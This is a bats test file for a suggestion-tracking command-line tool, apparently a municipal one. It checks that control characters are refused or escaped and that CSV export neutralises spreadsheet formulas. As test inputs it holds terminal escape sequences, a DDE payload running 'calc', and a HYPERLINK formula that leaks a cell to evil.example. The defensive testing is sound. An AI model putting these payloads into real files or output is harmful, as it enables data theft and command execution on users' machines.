#!/usr/bin/env bats
# Text is never cut, never drives a terminal or a spreadsheet, and personal
# data stays masked (issue 11, items 3, 4 and 5; outside tests r5-r10, r24).

load helper

@test "r5: a NUL byte in --content - or --text - is refused as a control character" {
	town
	refused 1 'content has a control character' \
	    add --title x --content - --date 2023-01-05 < <(printf '第一段\000第二段')
	n=$(j add --title x --date 2023-01-05)
	j assign "$n" --dept 规划建设办 --date 2023-01-06
	refused 1 'reply text has a control character' \
	    reply "$n" --dept 规划建设办 --class A --text - --date 2023-01-07 \
	    < <(printf '已答复\000其余')
	# Without the NUL, the same text goes in whole.
	printf '已答复\n其余' | j reply "$n" --dept 规划建设办 --class A --text - --date 2023-01-07
	run sfield "$n" 'replies[0].text'
	expect_output <<<$'已答复\n其余'
}

@test "r9: control characters in CSV cells and headers are shown escaped in messages" {
	j init >/dev/null
	printf 'number,received_on,title,source\n2023-0100,\033]0;PWNED\007\033[2J\033[H,路灯,\033[8m\n' >evil.csv
	refused_all 1 import suggestions evil.csv <<-'EOF2'
	jianyi: evil.csv:2: received_on: invalid date '\x1b]0;PWNED\x07\x1b[2J\x1b[H'
	jianyi: evil.csv:2: source: invalid value '\x1b[8m' (use reception|session|group|online|other)
	jianyi: evil.csv: 1 bad rows; nothing imported
	EOF2
	printf '\033[1;31mFAKE\033[0m,标题\n' >evil2.csv
	refused 1 "evil2.csv:1: unknown header '\\x1b[1;31mFAKE\\x1b[0m'" \
	    import suggestions evil2.csv
}

@test "r9: argv values in messages show C0, DEL, C1 and invalid bytes escaped; valid UTF-8 unchanged" {
	j init >/dev/null
	refused 1 "no suggestion numbered '黄塘\\x1b[2J\\x07\\x7f\\xc2\\x9b\\xff\\xe9\\x0a'" \
	    show $'黄塘\e[2J\a\x7f\xc2\x9b\xff\xe9\n'
	# A file name in an error from the C library (err(3)'s warn).
	refused 1 "tab\\x09\\x1b.csv: No such file or directory" \
	    import suggestions $'tab\t\e.csv'
}

@test "r9: JIANYI_USER is validated like any name" {
	j init >/dev/null
	JIANYI_USER=$'\e]0;owned\a\e[2J' refused 2 'JIANYI_USER has a control character' \
	    add --title x --date 2023-01-05
	JIANYI_USER=$'\xff' refused 2 'JIANYI_USER is not valid UTF-8' \
	    add --title x --date 2023-01-05
	JIANYI_USER=$(printf '%061d' 0) refused 2 \
	    'JIANYI_USER is too long (61 characters; at most 60)' list
	# $USER, when JIANYI_USER is not set, is checked the same way.
	(unset JIANYI_USER; USER=$'a\eb' refused 2 'USER has a control character' list)
	JIANYI_USER=秘书 j add --title x --date 2023-01-05
	run j log
	expect_table <<-'EOF2'
	date        number     action      detail         by
	2023-01-05  2023-0001  registered  source: other  秘书
	EOF2
}

@test "r9: stored control characters (an old database) are escaped in text tables" {
	town
	j add --title 路灯 --date 2023-01-05 >/dev/null
	sqlite3 "$JIANYI_DB" "UPDATE suggestion SET title = '路灯' || char(27) || '[2J' || char(9) || 'x' || char(10) || 'y';
	    UPDATE event SET actor = char(27) || ']0;owned' || char(7)"
	run j list
	[ "$status" -eq 0 ]
	expect_table <<-'EOF2'
	number     status      overdue  received    station  department  due  submitter  title
	2023-0001  registered           2023-01-05  -        -           -    -          路灯\x1b[2J x y
	EOF2
	run j log 2023-0001
	[ "$status" -eq 0 ]
	expect_table <<-'EOF2'
	date        number     action      detail         by
	2023-01-05  2023-0001  registered  source: other  \x1b]0;owned\x07
	EOF2
}

@test "r24: CSV cells that a spreadsheet would run get a leading apostrophe, and import reads them back unchanged" {
	town
	j add --title '=HYPERLINK("http://evil.example/?"&B2,"详情")' \
	    --category "=cmd|'/C calc'!A0" --submitter '@李四' \
	    --phone '+86 139 1111 2222' --content "'=已有撇号" \
	    --date 2023-01-05 >/dev/null
	j add --title '-2' --category "'a" --date 2023-01-06 >/dev/null
	run j export suggestions --with-personal-data
	[ "$status" -eq 0 ]
	[ "${lines[1]}" = $'2023-0001,2023-01-05,,其他,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")",\'\'=已有撇号,\'=cmd|\'/C calc\'!A0,\'@李四,\'+86 139 1111 2222,,,,,,,,,,,\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
	[ "${lines[2]}" = $'2023-0002,2023-01-06,,其他,-2,,\'a,,,,,,,,,,,,,\r' ] || { echo "${lines[2]}" | cat -A; return 1; }
	printf '%s\n' "$output" >all.csv
	run j list --format csv
	[ "${lines[1]}" = $'2023-0001,registered,0,2023-01-05,,,,\'@**,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")"\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
	# The round trip: a new database gets every value back unchanged.
	sfield 2023-0001 'title,.category,.submitter,.phone,.content' >want
	sfield 2023-0002 'title,.category' >>want
	JIANYI_DB=$TMP/new.db j init >/dev/null
	JIANYI_DB=$TMP/new.db j import suggestions all.csv
	JIANYI_DB=$TMP/new.db sfield 2023-0001 'title,.category,.submitter,.phone,.content' >got
	JIANYI_DB=$TMP/new.db sfield 2023-0002 'title,.category' >>got
	diff want got
	[ "$(sed -n 1p got)" = '=HYPERLINK("http://evil.example/?"&B2,"详情")' ]
	# Exporting the new database gives the same file, byte for byte.
	JIANYI_DB=$TMP/new.db j export suggestions --with-personal-data >again.csv
	cmp all.csv again.csv
}
